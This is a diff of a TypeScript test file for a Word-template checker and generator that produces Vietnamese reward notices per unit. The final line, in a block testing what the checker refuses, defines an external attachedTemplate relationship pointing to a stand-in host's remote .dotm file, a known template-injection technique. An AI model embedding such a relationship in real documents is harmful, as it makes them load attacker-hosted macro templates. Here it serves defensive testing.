@@ -1,8 +1,12 @@
+import { campaignDefaults } from '@dvk/campaigns';
+import { rankSeason } from '@dvk/scoring-core';
 import { wordText } from '../../../../../test/support/word-paper';
 import { zipFile } from '../../../../../test/support/zip-file';
+import { drawPaper } from '../making/draw-paper';
 import { packageParts } from '../word/docx-package';
 import { checkTemplate } from './check-template';
 import { drawExample } from './draw-example';
+import { exampleSeason } from './example-season';
 import { standardTemplate } from './standard-template';
 import { templateKinds } from './template-kinds';
 
@@ -61,6 +65,43 @@ it('names each placeholder it does not know, and where it stands', async () => {
   ]);
   expect(placeholders[1]).toMatchObject({ row: 1, cell: 2, paragraph: 1 });
 }, 60_000);
+
+describe('a notice', () => {
+  const notice = async (change: (parts: Map<string, Buffer>) => void): Promise<Buffer> => {
+    const parts = packageParts(await standardTemplate('reward-notice', 'state'));
+    change(parts);
+    return zipFile([...parts].map(([name, bytes]) => ({ name, bytes })));
+  };
+
+  it('is filled once for each unit, on pages numbered anew, with its own rows and the footer of all', async () => {
+    const template = await notice(beforeContent(`${paragraph('Gửi {{don_vi}}: {{so_truong_hop}}')}${table(['{{ket_qua.stt}}', '{{ket_qua.ten}}', '{{ket_qua.noi_dung}}'])}${paragraph('{{bang_ket_qua}}')}`));
+    expect(await checkTemplate('reward-notice', template)).toEqual({ fault: null, placeholders: [] });
+    const paper = await drawExample('reward-notice', template);
+    const [text, document] = [wordText(paper), packageParts(paper).get('word/document.xml')?.toString('utf8') ?? ''];
+    expect(text).not.toContain('{{');
+    const [one, other] = [text.indexOf('Gửi Phường Mẫu Hai: 1 (một) tập thể'), text.indexOf('Gửi Xã Mẫu Một: 1 (một) tập thể')];
+    expect([one > 0, other > one]).toEqual([true, true]);
+    expect(text.slice(0, other)).toContain('1\nÁnh sáng đường quê\nBằng khen');
+    expect(text.slice(other)).toContain('1\nThôn sạch, đường hoa\nBằng khen');
+    const sections = document.match(/<w:sectPr\b.*?<\/w:sectPr>/gs) ?? [];
+    expect(sections.map((section) => [section.includes('<w:footerReference'), section.includes('w:start="1"')])).toEqual([[true, true], [true, true]]);
+    expect(document.match(/<w:body>/g)).toHaveLength(1);
+  }, 60_000);
+
+  it('says who is meant by no placeholder of the footer, which all units share', async () => {
+    const { placeholders } = await checkTemplate('reward-notice', await notice(inPart('word/footer1.xml', '{{ma_qr}}', '{{don_vi}}')));
+    expect(placeholders.map(({ fault, placeholder, part }) => [fault, placeholder, part])).toEqual([['not-in-body', 'don_vi', 'footer']]);
+  }, 60_000);
+
+  it('to nobody is the standard page that says so', async () => {
+    const nobody = await drawExample('no-reward-notice', await notice(beforeContent(paragraph('Mẫu riêng'))));
+    expect(wordText(nobody)).toContain('Mẫu riêng');
+    const season = exampleSeason(2026);
+    const all = { ...season, tiers: [], nominations: [], sheets: [] };
+    const order = { kind: 'reward-notice', sha256: '0'.repeat(64), frozenAt: '2026-01-01T00:00:00.000Z', papers: campaignDefaults.paperSettings, publicUrl: null, decisions: [], template: (await notice(() => undefined)).toString('base64') } as const;
+    expect(wordText(await drawPaper(order, { season: all, result: rankSeason(all) }))).toContain('không có đơn vị nào thuộc diện nhận thông báo này');
+  }, 60_000);
+});
 
 describe('refuses', () => {
   const relation = '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>';
